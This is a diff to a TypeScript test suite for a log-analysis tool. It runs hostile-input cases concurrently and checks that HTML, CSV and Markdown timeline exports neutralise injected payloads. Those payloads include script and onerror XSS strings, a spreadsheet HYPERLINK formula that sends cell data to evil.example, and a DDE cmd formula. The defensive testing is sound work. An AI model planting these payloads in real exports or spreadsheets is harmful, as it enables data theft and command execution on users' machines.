@@ -1,7 +1,7 @@
 // Hostile input through `hangwatch parse` / `analyze` / `timeline` as child processes under a heap limit
 // (harness/run-bounded.ts): every hostile record ends as a dead letter with a reason (or, where DESIGN.md says
 // so, as a flagged event), a valid record after it is still parsed, and peak memory stays under the bound.
-import { test } from 'node:test';
+import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { createReadStream } from 'node:fs';
@@ -264,54 +264,58 @@ function winlogbeatDoc(eventData: Record<string, string>): string {
   })}\n`;
 }
 
-for (const c of cases) {
-  test(`hostile input (${MODE}): ${c.name}`, { timeout: 600_000 }, async () => {
-    await runCase(c);
-  });
-}
+// The cases are independent child processes (own files, own peak memory measure): three at a time, so that
+// their start-up (a few seconds each on a loaded machine) overlaps.
+describe(`hostile input (${MODE})`, { concurrency: 3 }, () => {
+  for (const c of cases) {
+    test(c.name, { timeout: 600_000 }, async () => {
+      await runCase(c);
+    });
+  }
 
-test('HTML and CSV injection in messages: timeline exports stay inert', { timeout: 600_000 }, async () => {
-  const root = join(dir, 'injection');
-  await rm(root, { recursive: true, force: true });
-  const truth = generateCorpus(root, { ...DEFAULT_OPTIONS, seed: 5, hosts: 1, vmsPerHost: 1, hangs: 1, cleanShutdowns: 0 });
-  const host = truth.hosts[0]?.name as string;
-  const payloads = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3'];
-  const at = new Date(Date.parse(truth.window.gte) + 3_600_000).toISOString().replace('T', ' ').replace('Z', '+0000');
-  const injected = payloads.map((p) => libvirtdLine(at, p)).join('');
-  await appendFile(join(root, host, 'var', 'log', 'libvirt', 'libvirtd.log'), injected);
-  const analysis = join(root, 'analysis');
-  const analyzed = await runBounded(['analyze', '--out', analysis, '--year-reference', truth.referenceTime, join(root, host)], join(root, 'analyze.out'));
-  assert.equal(analyzed.code, 0, analyzed.stderr.slice(-500));
-  const from = truth.window.gte;
-  const to = truth.window.lte;
-  const exports: Record<string, string> = {};
-  for (const format of ['html', 'csv', 'md'] as const) {
-    const out = join(root, `timeline.${format}`);
-    const r = await runBounded(['timeline', '--host', host, '--from', from, '--to', to, '--format', format, '--source', analysis, '--out', out], join(root, `timeline-${format}.stdout`));
-    assert.equal(r.code, 0, r.stderr.slice(-500));
-    exports[format] = await readFile(out, 'utf8');
-  }
-  const html = exports.html as string;
-  const csv = exports.csv as string;
-  assert.ok(html.includes('alert(1)'), 'the payload is in the export (as text)');
-  assert.ok(!html.includes('<script>alert(1)</script>'), 'no live script element');
-  assert.ok(!/<img[^>]*onerror=alert\(2\)/.test(html), 'no live event handler');
-  // CSV: a cell beginning with = + - @ is a formula in spreadsheets (OWASP CSV injection): it must be neutralized.
-  for (const line of csv.split('\n')) {
-    for (const cell of line.split(',')) {
-      const text = cell.replace(/^"/, '');
-      assert.ok(!/^[=+@]/.test(text), `formula cell in CSV: ${cell.slice(0, 80)}`);
+  test('HTML and CSV injection in messages: timeline exports stay inert', { timeout: 600_000 }, async () => {
+    const root = join(dir, 'injection');
+    await rm(root, { recursive: true, force: true });
+    const truth = generateCorpus(root, { ...DEFAULT_OPTIONS, seed: 5, hosts: 1, vmsPerHost: 1, hangs: 1, cleanShutdowns: 0 });
+    const host = truth.hosts[0]?.name as string;
+    const payloads = ['<script>alert(1)</script>', '<img src=x onerror=alert(2)>', '=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3'];
+    const at = new Date(Date.parse(truth.window.gte) + 3_600_000).toISOString().replace('T', ' ').replace('Z', '+0000');
+    const injected = payloads.map((p) => libvirtdLine(at, p)).join('');
+    await appendFile(join(root, host, 'var', 'log', 'libvirt', 'libvirtd.log'), injected);
+    const analysis = join(root, 'analysis');
+    const analyzed = await runBounded(['analyze', '--out', analysis, '--year-reference', truth.referenceTime, join(root, host)], join(root, 'analyze.out'));
+    assert.equal(analyzed.code, 0, analyzed.stderr.slice(-500));
+    const from = truth.window.gte;
+    const to = truth.window.lte;
+    const exports: Record<string, string> = {};
+    for (const format of ['html', 'csv', 'md'] as const) {
+      const out = join(root, `timeline.${format}`);
+      const r = await runBounded(['timeline', '--host', host, '--from', from, '--to', to, '--format', format, '--source', analysis, '--out', out], join(root, `timeline-${format}.stdout`));
+      assert.equal(r.code, 0, r.stderr.slice(-500));
+      exports[format] = await readFile(out, 'utf8');
     }
-  }
-  assert.ok(csv.includes('HYPERLINK'), 'the payload is in the CSV (as text)');
-  await recordRow('10-12', {
-    fault: 'hostile: HTML/CSV injection in messages',
-    recordsIn: payloads.length,
-    indexed: payloads.length,
-    deadletters: 0,
-    duplicates: 0,
-    lost: 0,
-    recovery: 'inert in html/csv/md',
-    notes: 'hangwatch analyze + timeline --host (html, csv, md); Kibana objects checked in 40-security',
+    const html = exports.html as string;
+    const csv = exports.csv as string;
+    assert.ok(html.includes('alert(1)'), 'the payload is in the export (as text)');
+    assert.ok(!html.includes('<script>alert(1)</script>'), 'no live script element');
+    assert.ok(!/<img[^>]*onerror=alert\(2\)/.test(html), 'no live event handler');
+    // CSV: a cell beginning with = + - @ is a formula in spreadsheets (OWASP CSV injection): it must be neutralized.
+    for (const line of csv.split('\n')) {
+      for (const cell of line.split(',')) {
+        const text = cell.replace(/^"/, '');
+        assert.ok(!/^[=+@]/.test(text), `formula cell in CSV: ${cell.slice(0, 80)}`);
+      }
+    }
+    assert.ok(csv.includes('HYPERLINK'), 'the payload is in the CSV (as text)');
+    await recordRow('10-12', {
+      fault: 'hostile: HTML/CSV injection in messages',
+      recordsIn: payloads.length,
+      indexed: payloads.length,
+      deadletters: 0,
+      duplicates: 0,
+      lost: 0,
+      recovery: 'inert in html/csv/md',
+      notes: 'hangwatch analyze + timeline --host (html, csv, md); Kibana objects checked in 40-security',
+    });
   });
 });
